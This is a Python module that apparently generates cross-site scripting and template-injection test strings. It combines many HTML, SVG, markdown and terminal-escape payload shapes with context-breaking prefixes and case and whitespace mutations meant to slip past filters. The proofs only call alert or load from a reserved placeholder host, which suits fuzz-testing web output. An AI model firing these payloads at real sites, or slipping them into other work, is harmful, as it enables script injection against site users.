"""Hostile texts for the page, generated: markup, scripts, templates, escapes, all in many forms.

Each carries `alert` with its own number, or an image from elsewhere, so that what works is seen.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator

ELSEWHERE = "http://elsewhere.invalid/"
_RUN = ("alert({n})", "prompt({n})", "top.alert({n})", "window['al'+'ert']({n})", "alert`{n}`")
_SHAPES = (
    "<script>{run}</script>",
    "<script src={elsewhere}{n}.js></script>",
    "<img src=x onerror={run}>",
    "<img src={elsewhere}{n}.png>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe src={elsewhere}{n}></iframe>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<object data=javascript:{run}>",
    "<embed src={elsewhere}{n}.swf>",
    "<link rel=stylesheet href={elsewhere}{n}.css>",
    "<style>@import '{elsewhere}{n}.css';</style>",
    "<style>*{{background:url({elsewhere}{n}.png)}}</style>",
    "<meta http-equiv=refresh content='0;url={elsewhere}{n}'>",
    "<base href={elsewhere}>",
    "<form action={elsewhere}><button autofocus onfocus={run}>x</button></form>",
    "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<marquee onstart={run}>x</marquee>",
    "<select autofocus onfocus={run}>",
    "<xss onpointerenter={run} autofocus tabindex=1 onfocus={run}>x</xss>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "{{% include '{elsewhere}' %}}",
    "javascript:{run}//",
    "![x]({elsewhere}{n}.png)",
    "[x](javascript:{run})",
    "\x1b]8;;{elsewhere}\x07x\x1b]8;;\x07\x1b[31m{run}\x1b[0m",
    "\u202e<img src=x onerror={run}>\u202c",
)  # fmt: skip
_BREAKS = (
    "", "'>", '">', "</textarea>", "</title>", "-->", "]]>", "</script>", "*/", "'\">", "</style>",
    "</div></mark>", "\u2028", "\x00", "`}", "\\';", "&quot;&gt;", "%22%3E", "<!--><",
)  # fmt: skip


def payloads(count: int, *, seed: int = 7) -> list[str]:
    """`count` different ones, the same for the same seed; every shape with every break first."""
    pick = random.Random(seed)
    found: dict[str, None] = {}
    for number, (shape, before) in enumerate(_endless(pick)):
        run = pick.choice(_RUN).format(n=number)
        text = before + shape.format(run=run, elsewhere=ELSEWHERE, n=number)
        found[_varied(text, pick)] = None
        if len(found) >= count:
            break
    return list(found)


def _endless(pick: random.Random) -> Iterator[tuple[str, str]]:
    yield from itertools.product(_SHAPES, _BREAKS)
    while True:
        yield pick.choice(_SHAPES), pick.choice(_BREAKS) + pick.choice(_BREAKS)


def _varied(text: str, pick: random.Random) -> str:
    """In another case, with other blanks, in a sentence, doubled: or as it is."""
    match pick.randrange(6):
        case 0:
            return "".join(letter.upper() if pick.random() < 0.5 else letter for letter in text)
        case 1:
            return text.replace(" ", pick.choice(("/", "\t", "\n", "\f")))
        case 2:
            return f"Dear reader, {text} is what you asked for."
        case 3:
            return f"{text}\n{text}"
        case _:
            return text
